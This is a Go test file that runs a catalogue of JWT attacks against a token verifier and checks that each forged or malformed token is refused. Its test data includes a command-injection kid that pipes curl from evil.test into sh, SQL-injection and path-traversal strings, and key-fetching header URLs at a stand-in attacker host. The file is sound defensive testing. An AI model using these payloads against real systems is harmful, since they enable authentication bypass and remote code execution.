package verify_test

import (
	"bytes"
	"context"
	"crypto/ecdsa"
	"crypto/ed25519"
	"crypto/elliptic"
	"crypto/hmac"
	"crypto/sha256"
	"encoding/asn1"
	"errors"
	"log/slog"
	"math/big"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/custos-dev/custos/guard"
	"github.com/custos-dev/custos/verify"
)

// withSig replaces a token's signature segment.
func withSig(token string, sig []byte) string {
	i := strings.LastIndexByte(token, '.')
	return token[:i+1] + b64.EncodeToString(sig)
}

func sigOf(t testing.TB, token string) []byte {
	t.Helper()
	sig, err := b64.DecodeString(token[strings.LastIndexByte(token, '.')+1:])
	if err != nil {
		t.Fatal(err)
	}
	return sig
}

// hs256 builds an HMAC-SHA256 token keyed with secret.
func hs256(t testing.TB, header, payload string, secret []byte) string {
	t.Helper()
	input := b64.EncodeToString([]byte(header)) + "." + b64.EncodeToString([]byte(payload))
	mac := hmac.New(sha256.New, secret)
	mac.Write([]byte(input))
	return input + "." + b64.EncodeToString(mac.Sum(nil))
}

var p256N = elliptic.P256().Params().N

// TestAttack runs the JWT attack catalogue (docs field notes §2) against a
// Verifier with an in-memory key set and receipts. Every token would pass
// but for the one flaw the case names; TestAccept shows the controls.
func TestAttack(t *testing.T) {
	type attack struct {
		name  string
		token func(t *testing.T, f *fixture) string
		want  verify.Reason
	}
	edits := func(s func(f *fixture) signer, edit func(h, c map[string]any)) func(t *testing.T, f *fixture) string {
		return func(t *testing.T, f *fixture) string { return f.issue(t, s(f), edit) }
	}
	ed := func(f *fixture) signer { return f.ed }
	ec := func(f *fixture) signer { return f.ec }
	rawHeader := func(hdr string) func(t *testing.T, f *fixture) string {
		return func(t *testing.T, f *fixture) string {
			c := f.claims(t)
			f.record(f.ed, c)
			return f.ed.signRaw(t, strings.ReplaceAll(hdr, "KID", f.ed.kid), mustJSON(t, c))
		}
	}
	rawClaims := func(edit func(c string) string) func(t *testing.T, f *fixture) string {
		return func(t *testing.T, f *fixture) string {
			c := f.claims(t)
			f.record(f.ed, c)
			return f.ed.signRaw(t, mustJSON(t, header(f.ed)), edit(mustJSON(t, c)))
		}
	}
	setClaim := func(name string, v any) func(h, c map[string]any) {
		return func(_, c map[string]any) { c[name] = v }
	}
	setHeader := func(name string, v any) func(h, c map[string]any) {
		return func(h, _ map[string]any) { h[name] = v }
	}
	delClaim := func(name string) func(h, c map[string]any) {
		return func(_, c map[string]any) { delete(c, name) }
	}
	now := t0.Unix()

	attacks := []attack{
		// A01 alg:none in any case. Without a signature the token is not
		// even a well-formed JWS for custos.
		{"A01_alg_none", edits(ed, setHeader("alg", "none")), verify.ReasonAlgorithm},
		{"A01_alg_None", edits(ed, setHeader("alg", "None")), verify.ReasonAlgorithm},
		{"A01_alg_NONE", edits(ed, setHeader("alg", "NONE")), verify.ReasonAlgorithm},
		{"A01_alg_none_empty_signature", func(t *testing.T, f *fixture) string {
			tok := f.issue(t, f.ed, setHeader("alg", "none"))
			return tok[:strings.LastIndexByte(tok, '.')+1]
		}, verify.ReasonMalformed},
		{"A01_alg_missing", edits(ed, func(h, _ map[string]any) { delete(h, "alg") }), verify.ReasonAlgorithm},
		{"A01_alg_not_string", edits(ed, setHeader("alg", 1)), verify.ReasonAlgorithm},
		{"A01_alg_wrong_case_eddsa", edits(ed, setHeader("alg", "EDDSA")), verify.ReasonAlgorithm},

		// A02 stripped, truncated, extra-segment signatures.
		{"A02_stripped_signature", func(t *testing.T, f *fixture) string {
			tok := f.issue(t, f.ed, nil)
			return tok[:strings.LastIndexByte(tok, '.')+1]
		}, verify.ReasonMalformed},
		{"A02_two_segments", func(t *testing.T, f *fixture) string {
			tok := f.issue(t, f.ed, nil)
			return tok[:strings.LastIndexByte(tok, '.')]
		}, verify.ReasonMalformed},
		{"A02_truncated_signature", func(t *testing.T, f *fixture) string {
			tok := f.issue(t, f.ed, nil)
			return withSig(tok, sigOf(t, tok)[:63])
		}, verify.ReasonSignature},
		{"A02_extended_signature", func(t *testing.T, f *fixture) string {
			tok := f.issue(t, f.ed, nil)
			return withSig(tok, append(sigOf(t, tok), 0))
		}, verify.ReasonSignature},
		{"A02_extra_segment", func(t *testing.T, f *fixture) string {
			return f.issue(t, f.ed, nil) + ".AAAA"
		}, verify.ReasonMalformed},
		{"A02_flipped_signature_bit", func(t *testing.T, f *fixture) string {
			tok := f.issue(t, f.ed, nil)
			sig := sigOf(t, tok)
			sig[10] ^= 1
			return withSig(tok, sig)
		}, verify.ReasonSignature},
		{"A02_signature_of_other_token", func(t *testing.T, f *fixture) string {
			return withSig(f.issue(t, f.ed, nil), sigOf(t, f.issue(t, f.ed, nil)))
		}, verify.ReasonSignature},
		{"A02_payload_swapped", func(t *testing.T, f *fixture) string {
			a := strings.Split(f.issue(t, f.ed, nil), ".")
			b := strings.Split(f.issue(t, f.ed, setClaim("sub", "acct-2")), ".")
			return a[0] + "." + b[1] + "." + a[2]
		}, verify.ReasonSignature},

		// A03 / A15 HMAC with the public key (or a weak secret) as secret.
		{"A03_hs256_with_ed25519_public_key", func(t *testing.T, f *fixture) string {
			h := header(f.ed)
			h["alg"] = "HS256"
			return hs256(t, mustJSON(t, h), mustJSON(t, f.claims(t)), f.ed.ed.Public().(ed25519.PublicKey))
		}, verify.ReasonAlgorithm},
		{"A03_hs256_with_p256_public_key", func(t *testing.T, f *fixture) string {
			h := header(f.ec)
			h["alg"] = "HS256"
			point, err := f.ec.ec.PublicKey.Bytes()
			if err != nil {
				t.Fatal(err)
			}
			return hs256(t, mustJSON(t, h), mustJSON(t, f.claims(t)), point)
		}, verify.ReasonAlgorithm},
		{"A15_hs512_weak_secret", func(t *testing.T, f *fixture) string {
			h := header(f.ed)
			h["alg"] = "HS512"
			return hs256(t, mustJSON(t, h), mustJSON(t, f.claims(t)), []byte("secret"))
		}, verify.ReasonAlgorithm},

		// A04 algorithm substitution.
		{"A04_es384_with_p256_key", edits(ec, setHeader("alg", "ES384")), verify.ReasonAlgorithm},
		{"A04_rs256", edits(ec, setHeader("alg", "RS256")), verify.ReasonAlgorithm},
		{"A04_eddsa_header_es256_key", func(t *testing.T, f *fixture) string {
			// Signed with the Ed25519 key but naming the P-256 key.
			return f.issue(t, f.ed, setHeader("kid", f.ec.kid))
		}, verify.ReasonAlgorithm},
		{"A04_es256_header_eddsa_key", func(t *testing.T, f *fixture) string {
			return f.issue(t, f.ec, setHeader("kid", f.ed.kid))
		}, verify.ReasonAlgorithm},

		// A05 kid injection: visible ASCII reaches the key set as an
		// opaque string and is unknown; anything else never does.
		{"A05_kid_path_traversal", edits(ed, setHeader("kid", "../../dev/null")), verify.ReasonUnknownKey},
		{"A05_kid_sql", edits(ed, setHeader("kid", "x'OR'1'='1';DROP/**/TABLE/**/keys;--")), verify.ReasonUnknownKey},
		{"A05_kid_shell", edits(ed, setHeader("kid", "$(curl${IFS}evil.test|sh)")), verify.ReasonUnknownKey},
		{"A05_kid_newline", edits(ed, setHeader("kid", "a\nb")), verify.ReasonMalformed},
		{"A05_kid_nul", edits(ed, setHeader("kid", "a\x00")), verify.ReasonMalformed},
		{"A05_kid_space", edits(ed, setHeader("kid", "a b")), verify.ReasonMalformed},
		{"A05_kid_non_ascii", edits(ed, setHeader("kid", "ключ")), verify.ReasonMalformed},
		{"A05_kid_129_bytes", edits(ed, setHeader("kid", strings.Repeat("k", 129))), verify.ReasonMalformed},
		{"A05_kid_64KB", edits(ed, setHeader("kid", strings.Repeat("k", 64<<10))), verify.ReasonMalformed},
		{"A05_kid_empty", edits(ed, setHeader("kid", "")), verify.ReasonMalformed},
		{"A05_kid_missing", edits(ed, func(h, _ map[string]any) { delete(h, "kid") }), verify.ReasonMalformed},
		{"A05_kid_number", edits(ed, setHeader("kid", 7)), verify.ReasonMalformed},

		// A06–A08 key-carrying headers are never trusted.
		{"A06_jku", edits(ed, setHeader("jku", "https://evil.test/jwks.json")), verify.ReasonHeader},
		{"A07_x5u", edits(ed, setHeader("x5u", "https://evil.test/cert.pem")), verify.ReasonHeader},
		{"A07_x5c", edits(ed, setHeader("x5c", []string{"MIIB"})), verify.ReasonHeader},
		{"A08_embedded_jwk", func(t *testing.T, f *fixture) string {
			evil := newEdSigner(t, 66)
			return f.forge(t, evil, setHeader("jwk", evil.jwk()))
		}, verify.ReasonHeader},
		{"A08_embedded_jwk_of_real_key", func(t *testing.T, f *fixture) string {
			return f.issue(t, f.ed, setHeader("jwk", f.ed.jwk()))
		}, verify.ReasonHeader},
		{"A08_x5t", edits(ed, setHeader("x5t#S256", "abc")), verify.ReasonHeader},
		{"A08_unknown_member", edits(ed, setHeader("foo", "bar")), verify.ReasonHeader},
		{"A08_uppercase_ALG_member", rawHeader(`{"ALG":"none","alg":"EdDSA","typ":"at+jwt","kid":"KID"}`), verify.ReasonHeader},

		// A09 ECDSA signature edge cases.
		{"A09_r_s_zero", func(t *testing.T, f *fixture) string {
			return withSig(f.issue(t, f.ec, nil), make([]byte, 64))
		}, verify.ReasonSignature},
		{"A09_der_signature", func(t *testing.T, f *fixture) string {
			tok := f.issue(t, f.ec, nil)
			sig := sigOf(t, tok)
			der, err := asn1.Marshal(struct{ R, S *big.Int }{new(big.Int).SetBytes(sig[:32]), new(big.Int).SetBytes(sig[32:])})
			if err != nil {
				t.Fatal(err)
			}
			return withSig(tok, der)
		}, verify.ReasonSignature},
		{"A09_s_equals_n", func(t *testing.T, f *fixture) string {
			tok := f.issue(t, f.ec, nil)
			sig := sigOf(t, tok)
			p256N.FillBytes(sig[32:])
			return withSig(tok, sig)
		}, verify.ReasonSignature},
		{"A09_r_equals_n", func(t *testing.T, f *fixture) string {
			tok := f.issue(t, f.ec, nil)
			sig := sigOf(t, tok)
			p256N.FillBytes(sig[:32])
			return withSig(tok, sig)
		}, verify.ReasonSignature},
		{"A09_s_plus_n", func(t *testing.T, f *fixture) string {
			// s + n when it still fits in 32 bytes, else s with all bits set.
			tok := f.issue(t, f.ec, nil)
			sig := sigOf(t, tok)
			s := new(big.Int).Add(new(big.Int).SetBytes(sig[32:]), p256N)
			if s.BitLen() > 256 {
				s.SetBytes(bytesOf(0xff, 32))
			}
			s.FillBytes(sig[32:])
			return withSig(tok, sig)
		}, verify.ReasonSignature},
		{"A09_r_s_all_ones", func(t *testing.T, f *fixture) string {
			return withSig(f.issue(t, f.ec, nil), bytesOf(0xff, 64))
		}, verify.ReasonSignature},

		// A10 Ed25519 edge cases (Wycheproof runs the rest).
		{"A10_ed25519_s_not_reduced", func(t *testing.T, f *fixture) string {
			// S + L verifies with a non-strict implementation.
			tok := f.issue(t, f.ed, nil)
			sig := sigOf(t, tok)
			addL(sig[32:])
			return withSig(tok, sig)
		}, verify.ReasonSignature},
		{"A10_ed25519_zero_signature", func(t *testing.T, f *fixture) string {
			return withSig(f.issue(t, f.ed, nil), make([]byte, 64))
		}, verify.ReasonSignature},

		// A11 encoding malleability.
		{"A11_signature_padding", func(t *testing.T, f *fixture) string {
			return f.issue(t, f.ed, nil) + "=="
		}, verify.ReasonMalformed},
		{"A11_signature_spare_bits", func(t *testing.T, f *fixture) string {
			// 64 bytes leave 4 spare bits in the last character; setting
			// one changes the text but not the bytes a lax decoder yields.
			tok := f.issue(t, f.ed, nil)
			evil := tok[:len(tok)-1] + string(flipLowBit(tok[len(tok)-1]))
			if lax, err := b64.DecodeString(evil[strings.LastIndexByte(evil, '.')+1:]); err != nil || !bytes.Equal(lax, sigOf(t, tok)) {
				t.Fatalf("a lax decoder should read the same signature (err %v)", err)
			}
			return evil
		}, verify.ReasonMalformed},
		{"A11_header_std_alphabet", func(t *testing.T, f *fixture) string {
			tok := f.issue(t, f.ed, setHeader("kid", "??>>"))
			return strings.NewReplacer("-", "+", "_", "/").Replace(tok)
		}, verify.ReasonMalformed},
		{"A11_crlf_in_token", func(t *testing.T, f *fixture) string {
			tok := f.issue(t, f.ed, nil)
			return tok[:10] + "\r\n" + tok[10:]
		}, verify.ReasonMalformed},
		{"A11_leading_space", func(t *testing.T, f *fixture) string {
			return " " + f.issue(t, f.ed, nil)
		}, verify.ReasonMalformed},

		// A12 crit.
		{"A12_crit_exp", edits(ed, setHeader("crit", []string{"exp"})), verify.ReasonCritical},
		{"A12_crit_empty", edits(ed, setHeader("crit", []string{})), verify.ReasonCritical},
		{"A12_crit_b64", edits(ed, func(h, _ map[string]any) { h["crit"] = []string{"b64"}; h["b64"] = false }), verify.ReasonCritical},

		// A13 JSON parser differentials.
		{"A13_duplicate_alg", rawHeader(`{"alg":"none","alg":"EdDSA","typ":"at+jwt","kid":"KID"}`), verify.ReasonMalformed},
		{"A13_duplicate_alg_escaped", rawHeader(`{"alg":"EdDSA","al\u0067":"none","typ":"at+jwt","kid":"KID"}`), verify.ReasonMalformed},
		{"A13_duplicate_kid", rawHeader(`{"alg":"EdDSA","typ":"at+jwt","kid":"KID","kid":"other"}`), verify.ReasonMalformed},
		{"A13_duplicate_sub", rawClaims(func(c string) string { return strings.Replace(c, `{`, `{"sub":"acct-9",`, 1) }), verify.ReasonMalformed},
		{"A13_duplicate_in_nested", rawClaims(func(c string) string {
			return strings.Replace(c, `{`, `{"act":{"sub":"a","sub":"b"},`, 1)
		}), verify.ReasonMalformed},
		{"A13_header_bom", rawHeader("\ufeff" + `{"alg":"EdDSA","typ":"at+jwt","kid":"KID"}`), verify.ReasonMalformed},
		{"A13_claims_bom", rawClaims(func(c string) string { return "\ufeff" + c }), verify.ReasonMalformed},
		{"A13_header_trailing_garbage", rawHeader(`{"alg":"EdDSA","typ":"at+jwt","kid":"KID"}x`), verify.ReasonMalformed},
		{"A13_header_trailing_object", rawHeader(`{"alg":"EdDSA","typ":"at+jwt","kid":"KID"}{"alg":"none"}`), verify.ReasonMalformed},
		{"A13_claims_trailing_garbage", rawClaims(func(c string) string { return c + `}` }), verify.ReasonMalformed},
		{"A13_claims_trailing_space", rawClaims(func(c string) string { return c + " " }), verify.ReasonMalformed},
		{"A13_claims_invalid_utf8", rawClaims(func(c string) string { return strings.Replace(c, "acct-1", "acct-\xff", 1) }), verify.ReasonMalformed},
		{"A13_claims_array", rawClaims(func(c string) string { return "[" + c + "]" }), verify.ReasonMalformed},
		{"A13_exp_string", edits(ed, setClaim("exp", "1772366400")), verify.ReasonClaims},
		{"A13_exp_float", rawClaims(func(c string) string {
			return strings.Replace(c, `"exp":`, `"exp":1.5,"x":`, 1)
		}), verify.ReasonClaims},
		{"A13_exp_exponent", rawClaims(func(c string) string {
			return strings.Replace(c, `"exp":`, `"exp":1.7726e9,"x":`, 1)
		}), verify.ReasonClaims},
		{"A13_exp_fraction_zero", rawClaims(func(c string) string {
			return strings.Replace(c, `"exp":`, `"exp":1772367000.0,"x":`, 1)
		}), verify.ReasonClaims},
		{"A13_exp_overflow", rawClaims(func(c string) string {
			return strings.Replace(c, `"exp":`, `"exp":99999999999999999999,"x":`, 1)
		}), verify.ReasonClaims},
		{"A13_iat_negative", edits(ed, setClaim("iat", -1)), verify.ReasonClaims},
		{"A13_exp_bool", edits(ed, setClaim("exp", true)), verify.ReasonClaims},
		{"A13_uppercase_EXP_only", edits(ed, func(_, c map[string]any) { c["EXP"] = c["exp"]; delete(c, "exp") }), verify.ReasonLifetime},
		{"A13_sub_number", edits(ed, setClaim("sub", 42)), verify.ReasonClaims},
		{"A13_scope_array", edits(ed, setClaim("scope", []string{"a"})), verify.ReasonClaims},
		{"A13_scope_double_space", edits(ed, setClaim("scope", "a  b")), verify.ReasonClaims},
		{"A13_aud_number", edits(ed, setClaim("aud", 1)), verify.ReasonClaims},
		{"A13_aud_array_with_number", edits(ed, setClaim("aud", []any{testAudience, 1})), verify.ReasonClaims},
		{"A13_aud_empty_array", edits(ed, setClaim("aud", []string{})), verify.ReasonClaims},
		{"A13_sub_missing", edits(ed, delClaim("sub")), verify.ReasonClaims},
		{"A13_jti_missing", edits(ed, delClaim("jti")), verify.ReasonClaims},
		{"A13_client_id_empty", edits(ed, setClaim("client_id", "")), verify.ReasonClaims},

		// A14 JWE and nested JWT.
		{"A14_jwe_five_segments", func(t *testing.T, f *fixture) string {
			h := b64.EncodeToString([]byte(`{"alg":"dir","enc":"A256GCM","kid":"` + f.ed.kid + `"}`))
			return h + "..AAAAAAAAAAAAAAAA.AAAA.AAAAAAAAAAAAAAAAAAAAAA"
		}, verify.ReasonMalformed},
		{"A14_jwe_five_segments_filled", func(t *testing.T, f *fixture) string {
			return f.issue(t, f.ed, nil) + ".AAAA.AAAA"
		}, verify.ReasonMalformed},
		{"A14_enc_header", edits(ed, setHeader("enc", "A256GCM")), verify.ReasonHeader},
		{"A14_zip_header", edits(ed, setHeader("zip", "DEF")), verify.ReasonHeader},
		{"A14_cty_jwt", edits(ed, setHeader("cty", "JWT")), verify.ReasonHeader},
		{"A14_nested_jwt_payload", func(t *testing.T, f *fixture) string {
			inner := f.issue(t, f.ed, nil)
			return f.ed.signRaw(t, mustJSON(t, header(f.ed)), inner)
		}, verify.ReasonMalformed},
		{"A14_nested_jwt_json_string", func(t *testing.T, f *fixture) string {
			inner := f.issue(t, f.ed, nil)
			return f.ed.signRaw(t, mustJSON(t, header(f.ed)), mustJSON(t, inner))
		}, verify.ReasonMalformed},

		// A17 lifetime and time claims.
		{"A17_exp_missing", edits(ed, delClaim("exp")), verify.ReasonLifetime},
		{"A17_iat_missing", edits(ed, delClaim("iat")), verify.ReasonLifetime},
		{"A17_exp_far_future", edits(ed, setClaim("exp", now+10*365*86400)), verify.ReasonLifetime},
		{"A17_lifetime_16m", edits(ed, setClaim("exp", now+16*60)), verify.ReasonLifetime},
		{"A17_lifetime_zero", edits(ed, setClaim("exp", now)), verify.ReasonLifetime},
		{"A17_exp_before_iat", edits(ed, setClaim("exp", now-60)), verify.ReasonLifetime},
		{"A17_iat_future", edits(ed, func(_, c map[string]any) { c["iat"] = now + 120; c["exp"] = now + 600 }), verify.ReasonNotYetValid},
		{"A17_nbf_future", edits(ed, setClaim("nbf", now+120)), verify.ReasonNotYetValid},
		{"A17_nbf_string", edits(ed, setClaim("nbf", "0")), verify.ReasonClaims},
		{"A17_expired", edits(ed, func(_, c map[string]any) { c["iat"] = now - 700; c["exp"] = now - 100 }), verify.ReasonExpired},
		{"A17_expired_just_past_leeway", edits(ed, func(_, c map[string]any) { c["iat"] = now - 630; c["exp"] = now - 30 }), verify.ReasonExpired},

		// A18 wrong typ, iss; tokens of other kinds.
		{"A18_id_token_typ_jwt", edits(ed, func(h, c map[string]any) { h["typ"] = "JWT"; c["aud"] = "shop-web"; c["nonce"] = "n" }), verify.ReasonType},
		{"A18_typ_missing", edits(ed, func(h, _ map[string]any) { delete(h, "typ") }), verify.ReasonType},
		{"A18_typ_with_parameter", edits(ed, setHeader("typ", "at+jwt; v=1")), verify.ReasonType},
		{"A18_typ_dpop", edits(ed, setHeader("typ", "dpop+jwt")), verify.ReasonType},
		{"A18_refresh_token", func(t *testing.T, f *fixture) string { return newJTI(t) + newJTI(t) }, verify.ReasonMalformed},
		{"A18_wrong_issuer", edits(ed, setClaim("iss", "https://evil.test")), verify.ReasonIssuer},
		{"A18_issuer_trailing_slash", edits(ed, setClaim("iss", testIssuer+"/")), verify.ReasonIssuer},
		{"A18_issuer_case", edits(ed, setClaim("iss", strings.ToUpper(testIssuer))), verify.ReasonIssuer},
		{"A18_issuer_missing", edits(ed, delClaim("iss")), verify.ReasonIssuer},

		// A19 a token for another resource server.
		{"A19_other_audience", edits(ed, setClaim("aud", "https://payroll.custos.test")), verify.ReasonAudience},
		{"A19_other_audiences_array", edits(ed, setClaim("aud", []string{"https://a.test", "https://b.test"})), verify.ReasonAudience},
		{"A19_audience_prefix", edits(ed, setClaim("aud", testAudience+".evil.test")), verify.ReasonAudience},
		{"A19_audience_missing", edits(ed, delClaim("aud")), verify.ReasonAudience},

		// A22 expired and badly signed: the signature is judged first.
		{"A22_expired_and_bad_signature", func(t *testing.T, f *fixture) string {
			tok := f.issue(t, f.ed, func(_, c map[string]any) { c["iat"] = now - 7200; c["exp"] = now - 6600 })
			sig := sigOf(t, tok)
			sig[0] ^= 0x80
			return withSig(tok, sig)
		}, verify.ReasonSignature},
		{"A22_expired_wrong_issuer_signed_by_stranger", func(t *testing.T, f *fixture) string {
			evil := newEdSigner(t, 99)
			return f.forge(t, evil, func(h, c map[string]any) { h["kid"] = f.ed.kid; c["exp"] = now - 1; c["iss"] = "x" })
		}, verify.ReasonSignature},

		// A23 parser DoS.
		{"A23_huge_token", func(t *testing.T, f *fixture) string {
			return f.issue(t, f.ed, setClaim("pad", strings.Repeat("x", 1<<20)))
		}, verify.ReasonMalformed},
		{"A23_huge_header", edits(ed, setHeader("x", strings.Repeat("x", 2000))), verify.ReasonMalformed},
		{"A23_deep_claims", rawClaims(func(c string) string {
			return strings.Replace(c, `{`, `{"deep":`+strings.Repeat("[", 500)+strings.Repeat("]", 500)+",", 1)
		}), verify.ReasonMalformed},
		{"A23_deep_objects_in_header", rawHeader(`{"alg":"EdDSA","typ":"at+jwt","kid":"KID","x":` + strings.Repeat(`{"a":`, 100) + "1" + strings.Repeat("}", 100) + "}"), verify.ReasonMalformed},
		{"A23_many_dots", func(t *testing.T, f *fixture) string { return strings.Repeat(".", 4000) }, verify.ReasonMalformed},

		// A24 well signed with a real key, never issued.
		{"A24_forged_real_subject", func(t *testing.T, f *fixture) string {
			f.issue(t, f.ed, nil) // acct-1 holds real tokens
			return f.forge(t, f.ed, nil)
		}, verify.ReasonForged},
		{"A24_forged_random_subject", func(t *testing.T, f *fixture) string {
			return f.forge(t, f.ed, setClaim("sub", newJTI(t)))
		}, verify.ReasonForged},
		{"A24_forged_nonexistent_subject", func(t *testing.T, f *fixture) string {
			return f.forge(t, f.ec, setClaim("sub", "acct-does-not-exist"))
		}, verify.ReasonForged},
		{"A24_forged_reusing_real_jti_other_subject", func(t *testing.T, f *fixture) string {
			c := f.claims(t)
			f.record(f.ed, c)
			c["sub"] = "acct-2"
			return f.ed.signRaw(t, mustJSON(t, header(f.ed)), mustJSON(t, c))
		}, verify.ReasonForged},
		{"A24_forged_reusing_real_jti_longer_exp", func(t *testing.T, f *fixture) string {
			c := f.claims(t)
			f.record(f.ed, c)
			c["exp"] = c["exp"].(int64) + 300
			return f.ed.signRaw(t, mustJSON(t, header(f.ed)), mustJSON(t, c))
		}, verify.ReasonForged},
		{"A24_forged_reusing_real_jti_other_client", func(t *testing.T, f *fixture) string {
			c := f.claims(t)
			f.record(f.ed, c)
			c["client_id"] = "admin-cli"
			return f.ed.signRaw(t, mustJSON(t, header(f.ed)), mustJSON(t, c))
		}, verify.ReasonForged},
		{"A24_forged_reusing_jti_of_other_key", func(t *testing.T, f *fixture) string {
			c := f.claims(t)
			f.record(f.ec, c) // issued under the P-256 key
			return f.ed.signRaw(t, mustJSON(t, header(f.ed)), mustJSON(t, c))
		}, verify.ReasonForged},
		{"A24_refresh_receipt_jti", func(t *testing.T, f *fixture) string {
			c := f.claims(t)
			tok := f.ed.signRaw(t, mustJSON(t, header(f.ed)), mustJSON(t, c))
			f.receipts.put(verify.ReceiptRecord{JTI: c["jti"].(string), Kind: "refresh", Subject: "acct-1",
				ClientID: "shop-web", KeyID: f.ed.kid, IssuedAt: t0, ExpiresAt: t0.Add(10 * time.Minute)})
			return tok
		}, verify.ReasonForged},
	}
	for _, a := range attacks {
		t.Run(a.name, func(t *testing.T) {
			f := newFixture(t)
			tok := a.token(t, f)
			c, err := f.v.Verify(context.Background(), tok)
			if c != nil {
				t.Errorf("Verify returned claims for a refused token")
			}
			wantReason(t, err, a.want)
			// Header checks come before the key set is asked (A04's key
			// algorithm mismatch is found by the lookup, so it is exempt).
			headerStage := isHeaderReason(a.want) && !strings.HasPrefix(a.name, "A04_") ||
				a.want == verify.ReasonMalformed && strings.HasPrefix(a.name, "A05_")
			if headerStage && len(f.keys.asked) > 0 {
				t.Errorf("key set asked for %.40q", f.keys.asked)
			}
			if err != nil && strings.Contains(err.Error(), tok) {
				t.Errorf("error contains the token")
			}
			// A token signed with a custos key but never issued says
			// whom it claims to be; no other refusal carries claims.
			e, _ := errors.AsType[*verify.Error](err)
			switch {
			case e == nil:
			case a.want == verify.ReasonForged && (e.Claims == nil || e.Claims.JTI == "" || e.Claims.KeyID == ""):
				t.Errorf("forged token refused without its claims: %+v", e.Claims)
			case a.want != verify.ReasonForged && e.Claims != nil:
				t.Errorf("%s refusal carries claims", a.want)
			}
			// Through the guard, the same token is refused for the
			// same reason, recorded, and never reaches the service.
			status, rec, called := throughGuard(t, f.v, tok)
			if called || status/100 != 4 && status != 503 || rec.Outcome != guard.Refused || rec.Reason != a.want {
				t.Errorf("through the guard: status %d, recorded %s/%s, upstream called %v; want a refusal for %s", status, rec.Outcome, rec.Reason, called, a.want)
			}
		})
	}
}

// lastAccess keeps the guard's last access event.
type lastAccess struct{ a guard.Access }

func (l *lastAccess) Record(_ context.Context, a guard.Access) error { l.a = a; return nil }

// throughGuard sends token to a guarded route whose only check is the
// token, and returns the status, the access recorded and whether the
// upstream was called.
func throughGuard(t *testing.T, v *verify.Verifier, token string) (int, guard.Access, bool) {
	t.Helper()
	p, err := guard.ParsePolicy("p", strings.NewReader("custos-guard-policy v1\nroute GET /me/profile\n subject token\n data name\n"))
	if err != nil {
		t.Fatal(err)
	}
	rec := &lastAccess{}
	g, err := guard.New(guard.Config{Policy: p, Verifier: v, Recorder: rec, Logger: slog.New(slog.DiscardHandler)})
	if err != nil {
		t.Fatal(err)
	}
	called := false
	h := g.Wrap(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { called = true }))
	r := httptest.NewRequest("GET", "/me/profile", nil)
	r.Header.Set("Authorization", "Bearer "+token)
	w := httptest.NewRecorder()
	h.ServeHTTP(w, r)
	if strings.Contains(w.Body.String(), token) {
		t.Error("the guard's answer contains the token")
	}
	return w.Code, rec.a, called
}

func isHeaderReason(r verify.Reason) bool {
	return r == verify.ReasonAlgorithm || r == verify.ReasonType || r == verify.ReasonCritical || r == verify.ReasonHeader
}

func bytesOf(b byte, n int) []byte { return bytes.Repeat([]byte{b}, n) }

// flipLowBit returns the base64url character whose value differs from c's
// in the lowest bit.
func flipLowBit(c byte) byte {
	const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
	return alphabet[strings.IndexByte(alphabet, c)^1]
}

// addL adds the Ed25519 group order L to the little-endian scalar s.
func addL(s []byte) {
	l := []byte{0xed, 0xd3, 0xf5, 0x5c, 0x1a, 0x63, 0x12, 0x58, 0xd6, 0x9c, 0xf7, 0xa2, 0xde, 0xf9, 0xde, 0x14,
		0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0x10}
	carry := 0
	for i := range s {
		v := int(s[i]) + int(l[i]) + carry
		s[i], carry = byte(v), v>>8
	}
}

// TestAccept shows that the attack tests can fail: these tokens differ from
// refused ones only in being right.
func TestAccept(t *testing.T) {
	now := t0.Unix()
	cases := []struct {
		name string
		s    func(f *fixture) signer
		edit func(h, c map[string]any)
	}{
		{"eddsa", func(f *fixture) signer { return f.ed }, nil},
		{"es256", func(f *fixture) signer { return f.ec }, nil},
		{"typ_application_at_jwt", func(f *fixture) signer { return f.ed }, func(h, _ map[string]any) { h["typ"] = "application/at+jwt" }},
		{"typ_uppercase", func(f *fixture) signer { return f.ed }, func(h, _ map[string]any) { h["typ"] = "AT+JWT" }},
		{"aud_array_containing_ours", func(f *fixture) signer { return f.ed }, func(_, c map[string]any) { c["aud"] = []string{"https://a.test", testAudience} }},
		{"client_credentials_no_sid", func(f *fixture) signer { return f.ec }, func(_, c map[string]any) { delete(c, "sid"); c["sub"] = "shop-web" }},
		{"no_scope", func(f *fixture) signer { return f.ed }, func(_, c map[string]any) { delete(c, "scope") }},
		{"lifetime_exactly_15m", func(f *fixture) signer { return f.ed }, func(_, c map[string]any) { c["exp"] = now + 900 }},
		{"iat_in_future_within_leeway", func(f *fixture) signer { return f.ed }, func(_, c map[string]any) { c["iat"] = now + 29; c["exp"] = now + 600 }},
		{"expired_within_leeway", func(f *fixture) signer { return f.ed }, func(_, c map[string]any) { c["iat"] = now - 620; c["exp"] = now - 20 }},
		{"nbf_now", func(f *fixture) signer { return f.ed }, func(_, c map[string]any) { c["nbf"] = now }},
		{"extra_claims_ignored", func(f *fixture) signer { return f.ed }, func(_, c map[string]any) { c["auth_time"] = now - 60; c["act"] = map[string]any{"sub": "x"} }},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			f := newFixture(t)
			s := tc.s(f)
			tok := f.issue(t, s, tc.edit)
			c, err := f.v.Verify(context.Background(), tok)
			if err != nil {
				t.Fatalf("Verify: %v", err)
			}
			if c.Subject == "" || c.KeyID != s.kid || c.Algorithm != s.alg || c.Issuer != testIssuer {
				t.Errorf("claims = %+v", c)
			}
		})
	}
}

// TestAttackA09Twin shows that the (r, n−s) twin of a valid ES256 signature
// verifies — RFC 7518 does not forbid high s — and that revoking the token by
// jti refuses both byte strings.
func TestAttackA09Twin(t *testing.T) {
	f := newFixture(t)
	jti := ""
	tok := f.issue(t, f.ec, func(_, c map[string]any) { jti = c["jti"].(string) })
	sig := sigOf(t, tok)
	s := new(big.Int).SetBytes(sig[32:])
	new(big.Int).Sub(p256N, s).FillBytes(sig[32:])
	twin := withSig(tok, sig)
	if twin == tok {
		t.Fatal("twin equals the original")
	}
	pub := f.ec.ec.Public().(*ecdsa.PublicKey)
	digest := sha256.Sum256([]byte(tok[:strings.LastIndexByte(tok, '.')]))
	if !ecdsa.Verify(pub, digest[:], new(big.Int).SetBytes(sig[:32]), new(big.Int).SetBytes(sig[32:])) {
		t.Fatal("the twin signature does not verify with crypto/ecdsa")
	}
